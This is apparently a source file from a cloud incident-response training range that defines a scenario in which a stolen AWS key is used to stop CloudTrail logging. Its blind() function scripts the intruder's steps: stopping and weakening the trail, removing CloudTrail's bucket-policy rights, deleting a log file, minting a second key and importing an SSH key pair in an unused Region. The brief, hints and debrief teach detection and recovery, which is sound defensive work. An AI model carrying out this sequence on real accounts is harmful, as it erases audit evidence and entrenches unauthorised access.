import { USER } from "../../infra/names.ts";
import { credentialsFrom, type Credentials } from "../kit/aws.ts";
import { makeBucket } from "../kit/bucket.ts";
import { fillDataBucket } from "../kit/data.ts";
import { defineScenario } from "../kit/define.ts";
import { RECORD } from "../kit/evidence.ts";
import { outputOf } from "../kit/fleet.ts";
import { keyIdsOf } from "../kit/keys.ts";
import type { Stage } from "../kit/stage.ts";
import { bucketName, region } from "../kit/account-variables.ts";
import type { Variable } from "../kit/variation.ts";
import { criteria } from "./criteria.ts";
import type { Facts } from "./facts.ts";
import { LAIR, vandal, type Loot } from "./vandal.ts";

const DARK_REGION = "eu-west-3";
const DARK_KEY_PAIR = "build-agents";

/** What the intruder holds while the run lasts, by stage: secrets are no facts for grading. */
const held = new WeakMap<Stage, Loot>();

/** Whether another team keeps a trail, for one bucket's objects alone: it records nothing of what is asked here. */
const trails: Variable = {
  title: "trails",
  values: { "1": "one trail", "2": "a second trail, for one bucket's objects alone" },
  async make(stage) {
    const bucket = `application-reads-${stage.accountId}`;
    const { cloudtrail, s3 } = stage.platform;
    await makeBucket(stage, bucket);
    await s3.putBucketPolicy({
      Bucket: bucket,
      Policy: JSON.stringify({
        Version: "2012-10-17",
        Statement: [
          { Action: "s3:GetBucketAcl", Resource: `arn:aws:s3:::${bucket}` },
          { Action: "s3:PutObject", Resource: `arn:aws:s3:::${bucket}/AWSLogs/${stage.accountId}/*` },
        ].map((x) => ({ Effect: "Allow", Principal: { Service: "cloudtrail.amazonaws.com" }, ...x })),
      }),
    });
    const { TrailARN: TrailName } = await cloudtrail.createTrail({
      Name: "application-reads",
      S3BucketName: bucket,
    });
    await cloudtrail.putEventSelectors({
      TrailName,
      AdvancedEventSelectors: [
        {
          FieldSelectors: [
            { Field: "eventCategory", Equals: ["Data"] },
            { Field: "resources.type", Equals: ["AWS::S3::Object"] },
            {
              Field: "resources.ARN",
              StartsWith: [`arn:aws:s3:::${outputOf(stage, "EvidenceBucketName")}/`],
            },
          ],
        },
      ],
    });
    await cloudtrail.startLogging({ Name: TrailName });
  },
};

export default defineScenario<Facts>({
  id: "trail-stopped",
  title: "Somebody has switched off the lights",
  family: "Logging and detection",
  difficulty: 3,
  parMinutes: 15,
  summary: "The account's trail no longer records, and whoever stopped it is still there.",
  maps: {
    attack: ["T1562.008", "T1070", "T1078.004", "T1098.001", "T1535"],
    findings: [
      "Stealth:IAMUser/CloudTrailLoggingDisabled",
      "InitialAccess:IAMUser/AnomalousBehavior",
      "DefenseEvasion:IAMUser/AnomalousBehavior",
      "Persistence:IAMUser/AnomalousBehavior",
    ],
    nist: ["Detection & Analysis", "Containment, Eradication & Recovery"],
    exam: ["SCS-C02 1.2", "SCS-C02 2.4", "SCS-C03 2.2"],
  },
  needs: ["iam-enforcement", "event-history", "findings"],
  varies: { region, bucket: bucketName, trails },

  brief: (facts) =>
    `${facts.ticket} · severity 2 · you are on call

GuardDuty says that ${facts.userName} has stopped the trail of this account.
${facts.userName} says it was not them: the laptop with their access key was
stolen this morning. They can do without any access until tomorrow, but they
are coming back. One key was on the laptop; nobody knows what was made of it.

The trail ${facts.trailName}
is the only one that records this account. As of this morning it took
  - all management events, of every Region,
  - what is done with the objects of the data bucket,
  - with log file validation, into the log bucket.

The log bucket also takes the flow logs and the load balancer's access logs.
They must go on arriving.

OBJECTIVE: nobody but us stops the trail any more; it records and delivers
as it did; what was made in the dark is found and undone.

The auditors want three things:
  - from when until when it was blind, from the first stop until it records
    for good, as two times in UTC (like 2026-01-05T08:50:00Z), in a short
    note: an object ${facts.ticket}/gap.txt in the evidence bucket,
  - the records of what was done meanwhile, of every Region, in the evidence
    bucket,
  - a look at the digests: are the log files that we have still complete?

  ticket            ${facts.ticket}
  evidence bucket   ${facts.evidenceBucket}
  log bucket        ${facts.logBucket}
  data bucket       ${facts.dataBucket}

You have the responder's rights. Nobody else will change anything in the
account while you work.`,

  async inject(stage) {
    const { platform } = stage;
    const userName = USER.administrator;
    const names = {
      ticket: stage.ticket,
      evidenceBucket: outputOf(stage, "EvidenceBucketName"),
      logBucket: outputOf(stage, "LogBucketName"),
      dataBucket: outputOf(stage, "DataBucketName"),
      userName,
      trailArn: outputOf(stage, "TrailArn"),
      trailName: outputOf(stage, "TrailName"),
      darkRegion: DARK_REGION,
      darkKeyPair: DARK_KEY_PAIR,
    };
    await fillDataBucket(platform, names.dataBucket);
    const healthyUsers = Object.values(USER).filter((x) => x !== userName);
    const ownKeyIds = await keyIdsOf(platform, healthyUsers);
    const stolen = credentialsFrom((await platform.iam.createAccessKey({ UserName: userName })).AccessKey);
    stage.internet({ ip: LAIR.ip });
    const { loot, stoppedAt } = await blind(stage, stolen, names);
    held.set(stage, loot);
    const keyIds = loot.map((x) => x.accessKeyId).filter((x) => x.startsWith("AKIA"));
    return { ...names, stoppedAt, keyIds, healthyUsers, ownKeyIds };
  },

  adversary: (stage, facts) => vandal(facts, held.get(stage)!),
  markers: (facts) => [RECORD, facts.darkKeyPair, ...facts.keyIds],
  criteria,

  hints: [
    {
      cost: 3,
      text: "The trail is off, but event history is not: it cannot be switched off, and it knows who stopped what, with which key. It is kept by Region, and only for management events.",
    },
    {
      cost: 5,
      text: "If the trail stops again after you started it, somebody still can: look for what the stolen key was given (a session, begins with ASIA) and what it made (a second key of the same user). Then look at what else was changed on the trail: Regions, selectors, validation, and the bucket's policy. IsLogging alone delivers nothing.",
    },
    {
      cost: 8,
      text: "Both keys inactive, older sessions of the user denied (aws:TokenIssueTime), UpdateTrail for Regions and validation, PutEventSelectors, CloudTrail's two statements back into the log bucket's policy beside the others, StartLogging, and GetTrailStatus until a file has come. Ask LookupEvents in every Region.",
    },
  ],

  debrief: {
    story:
      "With the key from the laptop the intruder took a session of 36 hours, then stopped the trail: that call is the last thing the trail wrote. In the dark it made the trail forget other Regions, write events and the data bucket's objects, took CloudTrail's right to write out of the bucket's policy, deleted a log file of the morning, made a second key of the same user, and imported a key pair in a Region that nobody looks at. Whatever was started again was stopped again within seconds, for as long as one of the three credentials worked.",
    rulings: [
      {
        topic: "Where you have infrastructure, or everywhere?",
        text: "The study notes enable CloudTrail in all Regions with infrastructure. An intruder goes where there is none: AWS advises all Regions, in one multi-Region trail, new Regions included.",
        source: "Security – Specialty notes, Incident Response; CloudTrail user guide, multi-Region trails",
      },
      {
        topic: "Contain first, or restart first?",
        text: "Either is accepted. With a live actor a restart is undone at once, so only the one after containment counts.",
        source: "CloudTrail user guide, StopLogging; AWS incident response playbook CredCompromise",
      },
      {
        topic: "What is lost?",
        text: "Stopping a trail stops neither event history nor GuardDuty's own stream. Management events of the gap can be had from event history for 90 days, Region by Region; data events of the gap never.",
        source:
          "CloudTrail user guide, viewing events with event history; GuardDuty user guide, data sources",
      },
      {
        topic: "Is logging on?",
        text: "IsLogging says that it was started. Whether anything arrives is told by LatestDeliveryError and LatestDeliveryTime; CloudTrail tries again for 30 days where it may not write.",
        source:
          "CloudTrail API reference, GetTrailStatus; CloudTrail user guide, getting and viewing log files",
      },
    ],
    practiseNext: ["leaked-access-key", "readiness-review", "compromised-account"],
  },
});

/** What the intruder did before the page went out: the lights first, then what they were in the way of. */
async function blind(
  stage: Stage,
  stolen: Credentials,
  {
    userName,
    trailArn,
    logBucket,
    dataBucket,
  }: Pick<Facts, "userName" | "trailArn" | "logBucket" | "dataBucket">,
): Promise<{ loot: Loot; stoppedAt: number }> {
  const { cloudtrail, iam, s3, sts } = stage.intruder(stolen, LAIR);
  await sts.getCallerIdentity({});
  const session = credentialsFrom((await sts.getSessionToken({ DurationSeconds: 129_600 })).Credentials);
  await cloudtrail.describeTrails({});
  await cloudtrail.stopLogging({ Name: trailArn });
  const stoppedAt = stage.now();
  await cloudtrail.putEventSelectors({
    TrailName: trailArn,
    EventSelectors: [{ ReadWriteType: "ReadOnly", IncludeManagementEvents: true, DataResources: [] }],
  });
  await cloudtrail.updateTrail({
    Name: trailArn,
    IsMultiRegionTrail: false,
    EnableLogFileValidation: false,
  });
  const { Policy = "{}" } = await s3.getBucketPolicy({ Bucket: logBucket });
  await s3.putBucketPolicy({ Bucket: logBucket, Policy: withoutCloudTrail(Policy) });
  const { Contents = [] } = await s3.listObjectsV2({ Bucket: logBucket });
  const logFiles = Contents.map((x) => x.Key!).filter((key) => key.includes("/CloudTrail/"));
  await s3.deleteObject({ Bucket: logBucket, Key: stage.chance.pick(logFiles) });

  const second = credentialsFrom((await iam.createAccessKey({ UserName: userName })).AccessKey);
  await s3.getObject({ Bucket: dataBucket, Key: "exports/invoices.csv" });
  await stage.intruder(session, { ...LAIR, region: DARK_REGION }).ec2.importKeyPair({
    KeyName: DARK_KEY_PAIR,
    PublicKeyMaterial: Buffer.from(
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ agents",
    ),
  });
  return { loot: [stolen, second, session], stoppedAt };
}

/** A bucket policy without what lets CloudTrail write. */
function withoutCloudTrail(policy: string): string {
  const document = JSON.parse(policy) as { Statement: { Principal?: unknown }[] };
  const Statement = document.Statement.filter(
    (x) => !JSON.stringify(x.Principal).includes("cloudtrail.amazonaws.com"),
  );
  return JSON.stringify({ ...document, Statement });
}
